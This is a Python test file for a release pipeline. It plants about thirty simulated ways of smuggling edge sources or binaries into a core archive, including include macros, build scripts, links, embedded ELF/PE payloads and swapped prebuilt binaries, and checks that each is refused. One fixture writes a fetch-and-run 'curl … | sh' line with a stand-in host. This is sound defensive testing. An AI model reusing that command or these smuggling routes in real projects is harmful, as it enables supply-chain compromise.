"""Every route by which a product change could slip edge material into the core archive is refused.

A careless or hostile teammate changes only product sources, crate
manifests, ``ui/``, ``ops/`` and policy files. Each case below is one such
change, made in a copy of this repository; the real pipeline
(``release/builder/build.py``) then runs as a user runs it and must refuse
to publish, with a message naming the file and the route, leaving
``release/artifacts/`` exactly as it was. The negative controls (a harmless
asset, a comment, a new core module, a build script the declaration allows)
must still publish.

Speed: every case runs, one after another, in ONE copy at a fixed path with
ONE cargo target directory (cargo's cache is keyed by the workspace path), so
cargo rebuilds only the crate a case touched; the files a case changed are
put back with a fresh modification time when it ends, so cargo never reuses
a binary compiled from a case's content. Cases the gates refuse never reach
cargo.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
import tempfile
import time
import tomllib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from release import attest
from release.binary_inputs import check_build_scripts
from release.cargo import parse_dep_info
from release.content import MIN_CONTAINED, ForbiddenContent, Needle, embedded_executable
from release.errors import BadInputError, PackagingError, ToolchainError
from release.keys import load_public_key
from release.products import parse_workspace
from release.provenance import UNSAFE_PREBUILT_BUILD_TYPE, read_envelope, unverified_statement
from release.sbom import CargoMetadata, LocalCrate, read_sbom
from tests.conftest import ROOT, Repo, make_repo

pytestmark = pytest.mark.slow

HOST = "x86_64-unknown-linux-gnu"
WINDOWS = "x86_64-pc-windows-gnu"
# Where the cases run: a fixed path (per user), so cargo's cache survives between cases and sessions.
WORK = Path(tempfile.gettempdir()) / f"ransomeye-isolation-routes-{os.getuid()}"
TOPS = ("Cargo.toml", "Cargo.lock", "core", "ops", "edge", "ui", "governance")  # what a case may change
DECLARE_CORE_BUILD_SCRIPT = ("build-scripts = []", 'build-scripts = ["core"]')
TIMES: dict[str, float] = {}


# --- the shared repository ----------------------------------------------------------------------


Snapshot = dict[str, tuple[str, bytes]]


def _snapshot(root: Path) -> Snapshot:
    """Every entry under :data:`TOPS`: ``("dir"|"file"|"link", bytes)``."""
    out: Snapshot = {}
    for top in TOPS:
        stack = [root / top]
        while stack:
            p = stack.pop()
            rel = p.relative_to(root).as_posix()
            if p.is_symlink():
                out[rel] = ("link", os.readlink(p).encode())
            elif p.is_dir():
                out[rel] = ("dir", b"")
                stack += sorted(p.iterdir())
            else:
                out[rel] = ("file", p.read_bytes())
    return out


def _restore(root: Path, pristine: Snapshot) -> None:
    """Put every entry under :data:`TOPS` back as in ``pristine``; whatever is rewritten gets a fresh mtime."""
    now = _snapshot(root)
    for rel in sorted(set(now) - set(pristine), reverse=True):
        p = root / rel
        if p.is_dir() and not p.is_symlink():
            shutil.rmtree(p)
        elif os.path.lexists(p):
            p.unlink()
    for rel, (kind, data) in sorted(pristine.items()):
        p = root / rel
        linked = kind == "file" and p.is_file() and not p.is_symlink() and p.stat().st_nlink > 1
        if now.get(rel) == (kind, data) and not linked:
            continue
        if os.path.lexists(p) and (p.is_symlink() or not p.is_dir()):
            p.unlink()
        if kind == "dir":
            p.mkdir(exist_ok=True)
        elif kind == "link":
            p.symlink_to(data.decode())
        else:
            p.write_bytes(data)


@dataclass
class Shared:
    """The one repository copy every case runs in, its pristine state and its cargo target directory."""

    repo: Repo
    target: Path
    pristine: Snapshot
    prebuilt: Path

    def build(self, *args: str) -> subprocess.CompletedProcess[str]:
        return self.repo.build("--target-dir", str(self.target), *args)

    def binary(self, target: str, name: str) -> Path:
        return self.target / target / "release" / name


def _touch_tree(top: Path) -> None:
    stamp = time.time()
    for dirpath, _, files in os.walk(top):
        for f in files:
            os.utime(Path(dirpath) / f, (stamp, stamp))


@pytest.fixture(scope="module")
def shared() -> Iterator[Shared]:
    """A fresh copy at the fixed path, built once (cargo reuses the target directory of earlier sessions)."""
    WORK.mkdir(exist_ok=True)
    root = WORK / "ransomeye"
    if root.exists():
        shutil.rmtree(root)
    repo = make_repo(root)
    # An earlier session may have compiled a case's content and put the sources back afterwards:
    # fresh mtimes on the crates the cases change make cargo rebuild them from what is there now.
    for crate in ("core", "ops"):
        _touch_tree(root / crate)
    s = Shared(repo, WORK / "target", _snapshot(root), WORK / "prebuilt")
    started = time.monotonic()
    proc = s.build()
    TIMES["initial build"] = time.monotonic() - started
    assert proc.returncode == 0, f"the pristine copy does not publish:\n{proc.stdout}\n{proc.stderr}"
    if s.prebuilt.exists():
        shutil.rmtree(s.prebuilt)
    for bundle in repo.ws.bundles:
        (s.prebuilt / bundle.target).mkdir(parents=True, exist_ok=True)
        for f in bundle.binary_files():
            shutil.copy(s.binary(bundle.target, f), s.prebuilt / bundle.target / f)
    yield s
    _restore(root, s.pristine)


# --- the hostile changes ------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One hostile change: what it plants, where the pipeline must stop, and what the message must name."""

    id: str
    plant: Callable[[Shared], None]
    expect: tuple[str, ...]
    stage: str  # "gates" (before anything else), "build" (the compiler provenance) or "package"
    args: Callable[[Shared], tuple[str, ...]] = field(default=lambda s: ())


def _append(path: Path, text: str) -> None:
    with path.open("a") as f:
        f.write(text)


def _core_main(s: Shared) -> Path:
    return s.repo.root / "core" / "src" / "main.rs"


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert text.count(old) == 1, f"{path}: expected one {old!r}"
    path.write_text(text.replace(old, new))


def _declare_core_build_script(s: Shared) -> None:
    _edit(s.repo.root / "Cargo.toml", *DECLARE_CORE_BUILD_SCRIPT)


def _rust(s: Shared, text: str, path: str = "core/src/main.rs") -> None:
    _append(s.repo.root / path, "\n" + text)


def _include_bytes_relative(s: Shared) -> None:
    _rust(s, '#[allow(dead_code)]\nconst AGENT: &[u8] = include_bytes!("../../edge/agent/src/agent.rs");\n')


def _include_str_manifest_dir(s: Shared) -> None:
    _rust(
        s,
        "#[allow(dead_code)]\n"
        'const DPI: &str = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../edge/dpi/src/main.rs"));\n',
    )


def _include_items(s: Shared) -> None:
    (s.repo.root / "edge" / "agent" / "src" / "signatures.rs").write_text(
        'pub const SIGNATURES: &[&str] = &["ransom-note.txt", "*.locked"];\n'
    )
    _rust(s, '#[allow(dead_code)]\nmod signatures {\n    include!("../../edge/agent/src/signatures.rs");\n}\n')


def _path_module(s: Shared) -> None:
    _rust(s, '#[allow(dead_code)]\n#[path = "../../edge/agent/src/loader.rs"]\nmod loader;\n')


def _include_bytes_in_ops(s: Shared) -> None:
    _rust(s, '#[allow(dead_code)]\nconst P: &[u8] = include_bytes!("../../edge/dpi/Cargo.toml");\n', "ops/src/main.rs")


def _include_outside_the_crate(s: Shared) -> None:
    _rust(s, '#[allow(dead_code)]\nconst UI: &str = include_str!("../../ui/dist/index.html");\n')


def _new_path_crate_including_edge(s: Shared) -> None:
    crate = s.repo.root / "ops" / "telemetry"
    (crate / "src").mkdir(parents=True)
    (crate / "Cargo.toml").write_text(
        '[package]\nname = "ransomeye-telemetry"\nversion.workspace = true\nedition.workspace = true\n'
        "license.workspace = true\npublish = false\n"
    )
    (crate / "src" / "lib.rs").write_text('pub const MODEL: &[u8] = include_bytes!("../../../edge/dpi/src/main.rs");\n')
    _edit(s.repo.root / "Cargo.toml", 'members = ["core", "ops",', 'members = ["core", "ops", "ops/telemetry",')
    _append(
        s.repo.root / "core" / "Cargo.toml", '\n[dependencies]\nransomeye-telemetry = { path = "../ops/telemetry" }\n'
    )
    _rust(s, "#[allow(dead_code)]\nfn model_len() -> usize {\n    ransomeye_telemetry::MODEL.len()\n}\n")
    lock = s.repo.root / "Cargo.lock"  # as the teammate would commit it (cargo writes the same)
    _edit(
        lock,
        'name = "ransomeye-core"\nversion = "1.0.0"\n',
        'name = "ransomeye-core"\nversion = "1.0.0"\ndependencies = [\n "ransomeye-telemetry",\n]\n',
    )
    _append(lock, '\n[[package]]\nname = "ransomeye-telemetry"\nversion = "1.0.0"\n')


def _build_script_rerun_if_changed(s: Shared) -> None:
    _declare_core_build_script(s)
    (s.repo.root / "core" / "build.rs").write_text(
        "fn main() {\n"
        '    let notes = std::fs::read_to_string("../edge/agent/src/agent.rs").unwrap_or_default();\n'
        '    println!("cargo:rustc-env=AGENT_NOTES_LEN={}", notes.len());\n'
        '    println!("cargo:rerun-if-changed=../edge/agent/src/agent.rs");\n'
        "}\n"
    )


def _build_script_rustc_env_path(s: Shared) -> None:
    _declare_core_build_script(s)
    (s.repo.root / "core" / "build.rs").write_text(
        'fn main() {\n    println!("cargo:rustc-env=EDGE_FILE=../edge/dpi/src/main.rs");\n}\n'
    )
    _rust(
        s,
        "#[allow(dead_code)]\n"
        'const DPI: &str = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/", env!("EDGE_FILE")));\n',
    )


def _build_script_generates_edge_copy(s: Shared) -> None:
    _declare_core_build_script(s)
    (s.repo.root / "core" / "build.rs").write_text(
        "use std::{env, fs, path::Path};\n"
        "fn main() {\n"
        '    let out = Path::new(&env::var("OUT_DIR").unwrap()).join("table.txt");\n'
        '    fs::copy("../edge/agent/src/sentinel.rs", out).unwrap();\n'
        "}\n"
    )
    _rust(s, '#[allow(dead_code)]\nconst TABLE: &str = include_str!(concat!(env!("OUT_DIR"), "/table.txt"));\n')


def _undeclared_build_script(s: Shared) -> None:
    (s.repo.root / "core" / "build.rs").write_text('fn main() {\n    println!("cargo:rerun-if-changed=build.rs");\n}\n')


def _undeclared_package_build(s: Shared) -> None:
    (s.repo.root / "core" / "tools").mkdir()
    (s.repo.root / "core" / "tools" / "codegen.rs").write_text("fn main() {}\n")
    _edit(s.repo.root / "core" / "Cargo.toml", "autobins = false\n", 'autobins = false\nbuild = "tools/codegen.rs"\n')


def _build_script_declared_for_another_crate(s: Shared) -> None:
    _edit(s.repo.root / "Cargo.toml", "build-scripts = []", 'build-scripts = ["ops"]')
    _undeclared_build_script(s)


def _symlinked_module_file(s: Shared) -> None:
    os.symlink("../../edge/agent/src/loader.rs", s.repo.root / "core" / "src" / "ldr.rs")
    _rust(s, "#[allow(dead_code)]\nmod ldr;\n")


def _symlinked_source_dir(s: Shared) -> None:
    os.symlink("../../edge/agent/src", s.repo.root / "core" / "src" / "net")
    _rust(s, '#[allow(dead_code)]\n#[path = "net/agent.rs"]\nmod net_agent;\n')


def _hard_linked_source(s: Shared) -> None:
    os.link(s.repo.root / "edge" / "agent" / "src" / "sentinel.rs", s.repo.root / "core" / "src" / "watch.rs")
    _rust(s, "#[allow(dead_code)]\nmod watch;\n")


def _edge_source_copied_into_core(s: Shared) -> None:
    shutil.copy(s.repo.root / "edge" / "dpi" / "src" / "main.rs", s.repo.root / "core" / "src" / "flows.rs")
    _rust(s, "#[allow(dead_code)]\nmod flows;\n")


def _dist(s: Shared) -> Path:
    return s.repo.root / "ui" / "dist"


def _edge_binary_copied(s: Shared) -> None:
    shutil.copy(s.binary(HOST, "ransomeye-agent"), _dist(s) / "assets" / "logo.png")


def _edge_binary_hard_linked(s: Shared) -> None:
    os.link(s.binary(HOST, "ransomeye-dpi"), _dist(s) / "assets" / "font.woff2")


def _windows_edge_binary_copied(s: Shared) -> None:
    shutil.copy(s.binary(WINDOWS, "ransomeye-agent.exe"), s.repo.root / "ops" / "services" / "core" / "helper.dat")


def _edge_binary_embedded(s: Shared) -> None:
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 1000
    (_dist(s) / "assets" / "splash.png").write_bytes(png + s.binary(HOST, "ransomeye-sentinel").read_bytes() + png)


def _edge_source_copied_into_policies(s: Shared) -> None:
    shutil.copy(s.repo.root / "edge" / "agent" / "src" / "agent.rs", s.repo.root / "governance" / "policies" / "a.toml")


def _edge_source_copied_into_units(s: Shared) -> None:
    shutil.copy(s.repo.root / "edge" / "agent" / "Cargo.toml", s.repo.root / "ops" / "services" / "core" / "notes.txt")


def _edge_source_inside_an_asset(s: Shared) -> None:
    edge = (s.repo.root / "edge" / "dpi" / "src" / "main.rs").read_text()
    _append(_dist(s) / "assets" / "app.js", "\n/*\n" + edge + "\n*/\n")


def _shebang_script(s: Shared) -> None:
    (_dist(s) / "update.sh").write_text("#!/bin/sh\ncurl -s https://example.invalid/x | sh\n")


def _elf_header(s: Shared) -> None:
    (_dist(s) / "assets" / "data.bin").write_bytes(b"\x7fELF\x02\x01\x01" + b"\0" * 200)


def _mach_o(s: Shared) -> None:
    (_dist(s) / "assets" / "mac.dat").write_bytes(b"\xcf\xfa\xed\xfe" + b"\x07\0\0\x01" + b"\0" * 100)


def _pe_inside_a_policy(s: Shared) -> None:
    pe = s.binary(WINDOWS, "ransomeye-sentinel.exe").read_bytes()
    (s.repo.root / "governance" / "policies" / "blob.toml").write_bytes(b"# data\n" + pe)


def _prebuilt(s: Shared, change: Callable[[Path], None]) -> tuple[str, ...]:
    bins = WORK / "hostile-prebuilt"
    if bins.exists():
        shutil.rmtree(bins)
    shutil.copytree(s.prebuilt, bins)
    change(bins)
    return ("--unsafe-prebuilt-binaries", str(bins))


def _agent_as_core(bins: Path) -> None:
    shutil.copy(bins / HOST / "ransomeye-agent", bins / HOST / "ransomeye-core")


def _agent_inside_tuner(bins: Path) -> None:
    _append_bytes(bins / HOST / "ransomeye-tuner", (bins / HOST / "ransomeye-agent").read_bytes())


def _windows_agent_as_ops(bins: Path) -> None:
    shutil.copy(bins / WINDOWS / "ransomeye-agent.exe", bins / HOST / "ransomeye-ops")


def _append_bytes(path: Path, data: bytes) -> None:
    with path.open("ab") as f:
        f.write(data)


CASES = [
    # Rust's own ways of pulling another file into a crate: the build step's compiler provenance refuses them.
    Case("include_bytes-relative", _include_bytes_relative, ("edge/agent/src/agent.rs", "include_bytes!"), "build"),
    Case(
        "include_str-manifest-dir", _include_str_manifest_dir, ("edge/dpi/src/main.rs", "route: include_str!"), "build"
    ),
    Case("include-items", _include_items, ("edge/agent/src/signatures.rs", "route: include!"), "build"),
    Case("path-module", _path_module, ("edge/agent/src/loader.rs", "#[path] module attribute"), "build"),
    Case("include_bytes-in-ops", _include_bytes_in_ops, ("ransomeye-ops", "edge/dpi/Cargo.toml"), "build"),
    Case(
        "include-outside-the-crate",
        _include_outside_the_crate,
        ("ui/dist/index.html", "outside the crates the binary is built from", "include_str!"),
        "build",
    ),
    Case(
        "new-path-crate-including-edge",
        _new_path_crate_including_edge,
        ("edge/dpi/src/main.rs", "include_bytes! at ops/telemetry/src/lib.rs"),
        "build",
    ),
    Case(
        "build-script-rerun-if-changed",
        _build_script_rerun_if_changed,
        ("edge/agent/src/agent.rs", "cargo:rerun-if-changed at core/build.rs"),
        "build",
    ),
    Case(
        "build-script-rustc-env-path",
        _build_script_rustc_env_path,
        ("edge/dpi/src/main.rs", "cargo:rustc-env at core/build.rs"),
        "build",
    ),
    Case(
        "build-script-generates-edge-copy",
        _build_script_generates_edge_copy,
        ("byte for byte the edge/ file edge/agent/src/sentinel.rs", "OUT_DIR"),
        "build",
    ),
    # Build scripts where the declaration allows none, symlinks, hard links, copies: the gates refuse them.
    Case("undeclared-build-script", _undeclared_build_script, ("core/build.rs", "undeclared build script"), "gates"),
    Case(
        "undeclared-package-build",
        _undeclared_package_build,
        ("core/tools/codegen.rs", "undeclared build script"),
        "gates",
    ),
    Case(
        "build-script-declared-elsewhere",
        _build_script_declared_for_another_crate,
        ("core/build.rs", "undeclared build script"),
        "gates",
    ),
    Case(
        "symlinked-module-file",
        _symlinked_module_file,
        ("core/src/ldr.rs", "edge/agent/src/loader.rs", "symlinked module file"),
        "gates",
    ),
    Case("symlinked-source-dir", _symlinked_source_dir, ("core/src/net", "symlinked source directory"), "source"),
    Case("hard-linked-source", _hard_linked_source, ("core/src/watch.rs", "route: hard link"), "source"),
    Case(
        "edge-source-copied-into-core",
        _edge_source_copied_into_core,
        ("core/src/flows.rs", "edge/dpi/src/main.rs", "edge source copied into a core crate"),
        "gates",
    ),
    # Assets.
    Case(
        "edge-binary-copied-into-ui-dist",
        _edge_binary_copied,
        ("ui/dist/assets/logo.png", "an ELF executable", "executable asset"),
        "gates",
    ),
    Case(
        "edge-binary-hard-linked-into-ui-dist",
        _edge_binary_hard_linked,
        ("ui/dist/assets/font.woff2", "hard link"),
        "source",
    ),
    Case(
        "windows-edge-binary-in-ops-services",
        _windows_edge_binary_copied,
        ("ops/services/core/helper.dat", "a PE (Windows) executable", "executable asset"),
        "gates",
    ),
    Case(
        "edge-binary-embedded-in-an-asset",
        _edge_binary_embedded,
        ("ui/dist/assets/splash.png", "an ELF executable at byte 1008", "executable embedded in an asset"),
        "gates",
    ),
    Case(
        "edge-source-copied-into-policies",
        _edge_source_copied_into_policies,
        ("governance/policies/a.toml", "byte for byte the edge file edge/agent/src/agent.rs", "copy of an edge file"),
        "gates",
    ),
    Case(
        "edge-manifest-copied-into-units",
        _edge_source_copied_into_units,
        ("ops/services/core/notes.txt", "edge/agent/Cargo.toml", "copy of an edge file"),
        "gates",
    ),
    Case(
        "edge-source-inside-an-asset",
        _edge_source_inside_an_asset,
        ("ui/dist/assets/app.js", "contains the edge file edge/dpi/src/main.rs", "copy of an edge file"),
        "gates",
    ),
    Case("shebang-script-in-ui-dist", _shebang_script, ("ui/dist/update.sh", "#! line", "executable asset"), "gates"),
    Case("elf-in-ui-dist", _elf_header, ("ui/dist/assets/data.bin", "an ELF executable", "executable asset"), "gates"),
    Case("mach-o-in-ui-dist", _mach_o, ("ui/dist/assets/mac.dat", "Mach-O", "executable asset"), "gates"),
    Case(
        "pe-embedded-in-a-policy",
        _pe_inside_a_policy,
        ("governance/policies/blob.toml", "a PE (Windows) executable at byte 7", "executable embedded"),
        "gates",
    ),
    # --unsafe-prebuilt-binaries: the packagers compare every member with the edge binaries by content.
    Case(
        "prebuilt-agent-as-core",
        lambda s: None,
        ("bin/ransomeye-core is byte for byte the ransomeye-agent binary", "a binary that is a forbidden binary"),
        "package",
        args=lambda s: _prebuilt(s, _agent_as_core),
    ),
    Case(
        "prebuilt-agent-inside-tuner",
        lambda s: None,
        ("bin/ransomeye-tuner contains the ransomeye-agent binary", "a binary that holds a forbidden binary"),
        "package",
        args=lambda s: _prebuilt(s, _agent_inside_tuner),
    ),
    Case(
        "prebuilt-windows-agent-as-ops",
        lambda s: None,
        ("bin/ransomeye-ops is byte for byte the ransomeye-agent binary (bin/x86_64-pc-windows-gnu/",),
        "package",
        args=lambda s: _prebuilt(s, _windows_agent_as_ops),
    ),
]
# The progress line of the stage that refuses (the total counts a second builder only when one runs).
STAGE_LINES = {"gates": r"\[1/\d+\] gates ", "source": r"\[1/\d+\] gates ", "build": r"\[2/\d+\] build ",
               "package": r"\[3/\d+\]"}  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_change_is_refused(shared: Shared, case: Case) -> None:
    before = shared.repo.artifact_state()
    unsafe_before = _tree(shared.repo.root / "release" / "unsafe-prebuilt")
    started = time.monotonic()
    try:
        case.plant(shared)
        proc = shared.build(*case.args(shared))
    finally:
        _restore(shared.repo.root, shared.pristine)
    TIMES[case.id] = time.monotonic() - started
    out = proc.stdout + proc.stderr
    refused_by = 2 if case.id == "symlinked-source-dir" else 4 if "RELEASE ABORTED: GATES FAILED" in out else 6
    assert proc.returncode == refused_by, out  # bad input, the gates, or the build's and packagers' content checks
    assert "Traceback" not in out
    for text in case.expect:
        assert text in out, f"the refusal does not name {text!r}:\n{out}"
    assert re.search(STAGE_LINES[case.stage], proc.stdout) and "FAILED" in proc.stdout, out
    if case.stage == "gates":
        assert "⛔ RELEASE ABORTED: GATES FAILED" in out and not re.search(r"\[2/\d+\] build", proc.stdout)
    if case.stage == "build":
        assert re.search(r"\[1/\d+\] gates +ok", proc.stdout), "the gates passed: the compiler provenance refused it"
    assert shared.repo.artifact_state() == before, "release/artifacts/ is exactly as it was"
    assert _tree(shared.repo.root / "release" / "unsafe-prebuilt") == unsafe_before


def test_there_are_at_least_25_routes() -> None:
    assert len(CASES) >= 25
    assert {c.stage for c in CASES} == {"gates", "source", "build", "package"}


def _tree(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


# --- negative controls: they publish -------------------------------------------------------------


def _harmless_asset(s: Shared) -> None:
    (_dist(s) / "assets" / "logo.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>\n')


def _comment(s: Shared) -> None:
    _edit(_core_main(s), "fn main() -> ExitCode {", "// The entry point: parse, then serve.\nfn main() -> ExitCode {")


def _new_core_module(s: Shared) -> None:
    (s.repo.root / "core" / "src" / "banner.rs").write_text(
        'pub fn banner() -> &\'static str {\n    "RansomEye core"\n}\n'
    )
    _edit(
        _core_main(s),
        "fn main() -> ExitCode {",
        "mod banner;\n\nfn main() -> ExitCode {\n    let _ = banner::banner();",
    )


def _declared_build_script(s: Shared) -> None:
    _declare_core_build_script(s)
    (s.repo.root / "core" / "build.rs").write_text(
        "use std::{env, fs, path::Path};\n"
        "fn main() {\n"
        '    let out = Path::new(&env::var("OUT_DIR").unwrap()).join("generated.rs");\n'
        '    fs::write(out, "pub const GENERATED: u32 = 7;\\n").unwrap();\n'
        '    println!("cargo:rerun-if-changed=build.rs");\n'
        "}\n"
    )
    _rust(s, '#[allow(dead_code)]\nmod generated {\n    include!(concat!(env!("OUT_DIR"), "/generated.rs"));\n}\n')


EDGE_BINARIES = ("ransomeye-agent", "ransomeye-loader", "ransomeye-sentinel", "ransomeye-dpi")
ALL_PRODUCTS = {
    *(f"bin/{HOST}/{b}" for b in ("ransomeye-core", "ransomeye-tuner", "ransomeye-ops", *EDGE_BINARIES)),
    f"bin/{WINDOWS}/ransomeye-agent.exe",
    f"bin/{WINDOWS}/ransomeye-sentinel.exe",
}
CORE = f"bin/{HOST}/ransomeye-core"
CONTROLS: list[tuple[str, Callable[[Shared], None], dict[str, list[str]]]] = [
    ("harmless-asset", _harmless_asset, {CORE: ["core/src/main.rs"]}),
    ("comment-change", _comment, {CORE: ["core/src/main.rs"]}),
    ("new-core-module", _new_core_module, {CORE: ["core/src/banner.rs", "core/src/main.rs"]}),
    ("declared-build-script", _declared_build_script, {CORE: ["core/build.rs", "core/src/main.rs"]}),
]


@pytest.mark.parametrize("plant, inputs", [(p, i) for _, p, i in CONTROLS], ids=[n for n, _, _ in CONTROLS])
def test_harmless_change_still_publishes(
    shared: Shared, plant: Callable[[Shared], None], inputs: dict[str, list[str]]
) -> None:
    started = time.monotonic()
    try:
        plant(shared)
        proc = shared.build()
        link = _build_link(shared.repo.artifacts, shared.repo.keys)
        sbom = json.loads((shared.repo.artifacts / "ransomeye-core-1.0.0.cdx.json").read_text())
    finally:
        _restore(shared.repo.root, shared.pristine)
    TIMES[f"control {plant.__name__}"] = time.monotonic() - started
    assert proc.returncode == 0, proc.stdout + proc.stderr
    env = link["environment"]
    recorded = env["binary-inputs"]
    assert set(recorded) == ALL_PRODUCTS, "every binary of every bundle has its source set"
    for product, paths in recorded.items():
        assert paths and paths == sorted(paths), product
        assert all(p in link["materials"] for p in paths), "each source is a material of the build link"
        if not any(product.endswith(f"/{b}") or product.endswith(f"/{b}.exe") for b in EDGE_BINARIES):
            assert not [p for p in paths if p.startswith("edge/")], product
    for product, paths in inputs.items():
        assert recorded[product] == paths
    core_inputs = read_sbom(sbom, "core SBOM").binary_inputs["ransomeye-core-1.0.0/bin/ransomeye-core"]
    assert [p for p, _ in core_inputs] == recorded[CORE], "the SBOM lists the same sources"
    assert all(link["materials"][p]["sha256"] == sha for p, sha in core_inputs), "with the hashes the link recorded"
    if plant is _declared_build_script:
        assert env["binary-generated-inputs"] == {CORE: ["ransomeye-core:OUT_DIR/generated.rs"]}
    else:
        assert "binary-generated-inputs" not in env


def _build_link(folder: Path, keys: Path) -> dict[str, Any]:
    """The first builder's build link (a second builder's, if any, records the same)."""
    path = folder / attest.link_filename("build", load_public_key(keys / "build.pub"))
    signed: dict[str, Any] = json.loads(path.read_text())["signed"]
    return signed


# --- prebuilt binaries never make a customer release ------------------------------------------------


def test_prebuilt_release_lands_apart_and_says_so(shared: Shared) -> None:
    before = shared.repo.artifact_state()
    proc = shared.build("--unsafe-prebuilt-binaries", str(shared.prebuilt))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert shared.repo.artifact_state() == before, "release/artifacts/ is untouched"
    unsafe = shared.repo.root / "release" / "unsafe-prebuilt" / "artifacts"
    assert "UNSAFE" in proc.stdout and str(unsafe) in proc.stdout
    link = _build_link(unsafe, shared.repo.keys)
    assert link["command"] == ["unsafe-prebuilt-binaries"]
    assert link["environment"]["unsafe-prebuilt-binaries"] is True
    assert "binary-inputs" not in link["environment"], "no compiler provenance for binaries not compiled here"
    (envelope_file,) = unsafe.glob("*.intoto.jsonl")
    statement = unverified_statement(read_envelope(envelope_file.read_text(), envelope_file.name))
    assert statement is not None
    definition = statement["predicate"]["buildDefinition"]
    assert definition["buildType"] == UNSAFE_PREBUILT_BUILD_TYPE
    assert definition["externalParameters"]["unsafePrebuiltBinaries"] is True
    layout = json.loads((unsafe / "root.layout").read_text())
    assert layout["signed"]["readme"].startswith("UNSAFE")
    assert "/release/unsafe-prebuilt/" in (ROOT / ".gitignore").read_text().splitlines()


# --- the pieces, on their own ---------------------------------------------------------------------


def test_dep_info_parsing() -> None:
    text = "/t/release/ransomeye-core: /r/core/src/main.rs /r/core/src/my\\ file.rs /r/core/../edge/x.rs\n\n"
    assert parse_dep_info(text, "d") == ("/r/core/src/main.rs", "/r/core/src/my file.rs", "/r/core/../edge/x.rs")
    with pytest.raises(ToolchainError, match="not a dep-info file"):
        parse_dep_info("# env-dep:X=1\n", "d")


def test_the_build_scripts_declaration_defaults_to_none() -> None:
    data = tomllib.loads((ROOT / "Cargo.toml").read_text())
    assert data["workspace"]["metadata"]["release"]["build-scripts"] == [], "this repository allows none"
    assert parse_workspace(data, ROOT).build_scripts == ()
    del data["workspace"]["metadata"]["release"]["build-scripts"]
    assert parse_workspace(data, ROOT).build_scripts == (), "absent means none"
    data["workspace"]["metadata"]["release"]["build-scripts"] = ["core", "ops/"]
    ws = parse_workspace(data, ROOT)
    assert ws.allows_build_script("core") and ws.allows_build_script("ops") and not ws.allows_build_script("edge")
    for bad in (["/core"], ["../x"], ["core", "core"], "core", [1]):
        data["workspace"]["metadata"]["release"]["build-scripts"] = bad
        with pytest.raises(BadInputError, match="build-scripts"):
            parse_workspace(data, ROOT)


def test_a_build_script_the_declaration_does_not_allow_is_refused_before_cargo(shared: Shared) -> None:
    crate = LocalCrate("ransomeye-core@1.0.0", "core", ("core/build.rs",), ())
    md = CargoMetadata({}, {}, {crate.key: crate})
    with pytest.raises(PackagingError, match=r"core/build.rs: the build script of ransomeye-core@1.0.0 \(core\)"):
        check_build_scripts(shared.repo.ws, md)
    outside = LocalCrate("x@1.0.0", None, ("/elsewhere/build.rs",), ())
    with pytest.raises(PackagingError, match="a crate outside the repository"):
        check_build_scripts(shared.repo.ws, CargoMetadata({}, {}, {outside.key: outside}))


def test_content_search_streams_and_finds_copies_anywhere(tmp_path: Path) -> None:
    big = os.urandom(300_000)
    (tmp_path / "needle").write_bytes(big)
    (tmp_path / "tiny").write_bytes(b"fn main() {}\n")
    small = b"pub const X: u32 = 1; // a line long enough to be searched inside other files\n"
    (tmp_path / "small").write_bytes(small)
    index = ForbiddenContent(
        [
            Needle("the big one", tmp_path / "needle", len(big), kind="binary"),
            Needle("the tiny one", tmp_path / "tiny", 13),
            Needle("the small one", tmp_path / "small", len(small)),
        ]
    )
    for offset in (0, 1, (1 << 20) - 7, (1 << 20) + 3):  # across the 1 MiB chunk boundary too
        (tmp_path / "f").write_bytes(os.urandom(offset) + big + b"tail")
        found = index.search(tmp_path / "f")
        assert found is not None and (found.needle.label, found.offset, found.whole) == ("the big one", offset, False)
    (tmp_path / "f").write_bytes(big)
    found = index.search(tmp_path / "f")
    assert found is not None and found.whole and found.describe() == "is byte for byte the big one"
    (tmp_path / "f").write_bytes(big[:-1] + bytes([big[-1] ^ 1]))
    assert index.search(tmp_path / "f") is None, "a near copy is not a copy"
    (tmp_path / "f").write_bytes(b"x" * 5000 + small)
    found = index.search(tmp_path / "f")
    assert found is not None and found.needle.label == "the small one"
    (tmp_path / "f").write_bytes(b"fn main() {}\n")
    found = index.search(tmp_path / "f")
    assert found is not None and found.whole, "a tiny file counts when equal"
    (tmp_path / "f").write_bytes(b"// x\nfn main() {}\n")
    assert index.search(tmp_path / "f") is None, f"a file under {MIN_CONTAINED} bytes is not searched inside others"
    strict = ForbiddenContent([Needle("tiny", tmp_path / "tiny", 13)], min_equal=MIN_CONTAINED)
    assert not strict


def test_embedded_executables_are_found_by_structure(tmp_path: Path) -> None:
    f = tmp_path / "f"
    f.write_bytes(os.urandom(1 << 21))
    found = embedded_executable(f)
    assert found is None or found[0] > 0  # random data is judged by header structure, not two magic bytes
    data = bytearray(os.urandom((1 << 20) - 3))
    data += b"\x7fELF\x02\x01\x01" + bytes(64)
    f.write_bytes(bytes(data).replace(b"\x7fELF", b"\x7fELf", data.count(b"\x7fELF") - 1))
    assert embedded_executable(f) == ((1 << 20) - 3, "an ELF executable")
    f.write_bytes(b"\x7fELF\x02\x01\x01" + bytes(64))
    assert embedded_executable(f) is None, "at byte 0 it is the head's business, not an embedded one"
    mz = b"MZ" + bytes(0x3A) + (0x80).to_bytes(4, "little") + bytes(0x40) + b"PE\0\0" + bytes(16)
    f.write_bytes(b"padding" + mz)
    assert embedded_executable(f) == (7, "a PE (Windows) executable")
    f.write_bytes(b"padding MZ but no PE header behind it" + bytes(200))
    assert embedded_executable(f) is None


def test_timings(shared: Shared, capsys: pytest.CaptureFixture[str]) -> None:
    """Not a check: prints what each case took (pytest -s shows it)."""
    with capsys.disabled():
        for name, seconds in TIMES.items():
            print(f"  {name:<42} {seconds:6.1f}s")


